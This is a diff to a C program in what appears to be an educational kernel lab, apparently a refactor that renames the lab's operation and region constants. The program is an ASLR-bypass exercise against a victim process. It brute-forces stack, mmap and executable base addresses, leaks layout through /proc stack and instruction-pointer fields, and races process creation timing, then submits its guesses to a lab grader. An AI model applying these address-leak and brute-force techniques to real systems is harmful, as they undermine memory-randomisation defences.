@@ -9,12 +9,6 @@
  */
 #include "kernel/user/lib/ulib.h"
 
-#define OP_PARK	  1
-#define OP_READY  2
-#define OP_SUBMIT 3
-#define STACK	  0
-#define MMAP	  1
-#define EXE	  2
 /*
  * collision: the pool has two children per jiffy the victim's start could
  * be (see candidates_max), so a child that misses its jiffy has a stand-in;
@@ -30,7 +24,7 @@ static long lab(long op, long a, long b)
 
 static void submit(int region, uint64_t v)
 {
-	lab(OP_SUBMIT, region, (long)v);
+	lab(LAB_OP_SUBMIT, region, (long)v);
 }
 
 static uint64_t hex(const char *s)
@@ -167,9 +161,9 @@ static int report(void)
 	uint64_t st, mb, ex;
 
 	own_layout(&st, &mb, &ex);
-	submit(STACK, st);
-	submit(MMAP, mb);
-	submit(EXE, ex);
+	submit(LAB_STACK, st);
+	submit(LAB_MMAP, mb);
+	submit(LAB_EXE, ex);
 	return 0;
 }
 
@@ -182,12 +176,12 @@ static void brute_force(void)
 	own_layout(&st, &mb, &ex);
 	ia32 = st < (1ULL << 32);
 	getrandom(r, sizeof(r), 0);
-	submit(STACK, (ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL) -
-			      (r[0] & ((1ULL << (ia32 ? 11 : 22)) - 1)) * PAGE);
-	submit(MMAP, (ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL) - (128ULL << 20) -
-			     (r[1] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
-	submit(EXE, (ia32 ? 0xaaaaa000ULL : 0x555555554000ULL) +
-			    (r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
+	submit(LAB_STACK, (ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL) -
+				  (r[0] & ((1ULL << (ia32 ? 11 : 22)) - 1)) * PAGE);
+	submit(LAB_MMAP, (ia32 ? 0xffffe000ULL : 0x7ffffffff000ULL) - (128ULL << 20) -
+				 (r[1] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
+	submit(LAB_EXE, (ia32 ? 0xaaaaa000ULL : 0x555555554000ULL) +
+				(r[2] & ((1ULL << (ia32 ? 8 : 28)) - 1)) * PAGE);
 }
 
 /* The patch's leak: startstack bounds the stack top; kstkeip sits in the victim's code. */
@@ -211,10 +205,10 @@ static void proc_leak(const char *vpid)
 
 		/* argv, auxv and arch_align_stack's < 8 KiB lie between: three pages. */
 		for (int k = 0; k < 3; k++)
-			submit(STACK, top + (uint64_t)k * PAGE);
+			submit(LAB_STACK, top + (uint64_t)k * PAGE);
 	}
 	if (eip && own_eip)
-		submit(EXE, eip - (own_eip - own_exe));
+		submit(LAB_EXE, eip - (own_eip - own_exe));
 	if (!ss || !eip)
 		brute_force(); /* the leak is closed: nothing better than a guess */
 }
@@ -295,7 +289,7 @@ static int attack(const char *strategy, long hz)
 			if (pid < 0)
 				break;
 		}
-		lab(OP_READY, 0, 0);
+		lab(LAB_OP_READY, 0, 0);
 		while (wait4(-1, &status, 0, 0) > 0)
 			;
 		return 0;
@@ -306,10 +300,10 @@ static int attack(const char *strategy, long hz)
 
 		if (pid > 0)
 			wait4((int)pid, &status, 0, 0);
-		lab(OP_READY, 0, 0);
+		lab(LAB_OP_READY, 0, 0);
 		return find_victim(hz, (int)pid + 1) > 0 ? 0 : 1;
 	}
-	lab(OP_READY, 0, 0);
+	lab(LAB_OP_READY, 0, 0);
 	victim = find_victim(hz, (int)getpid() + 1);
 	if (victim < 0)
 		return 1;
@@ -324,7 +318,7 @@ static int attack(const char *strategy, long hz)
 int main(int argc, char **argv)
 {
 	if (argc >= 2 && !strcmp(argv[1], "victim"))
-		return lab(OP_PARK, 0, 0) == 0 ? 0 : 1;
+		return lab(LAB_OP_PARK, 0, 0) == 0 ? 0 : 1;
 	if (argc >= 2 && !strcmp(argv[1], "report"))
 		return report();
 	if (argc >= 4 && !strcmp(argv[1], "attack") && atol(argv[3]) > 0)
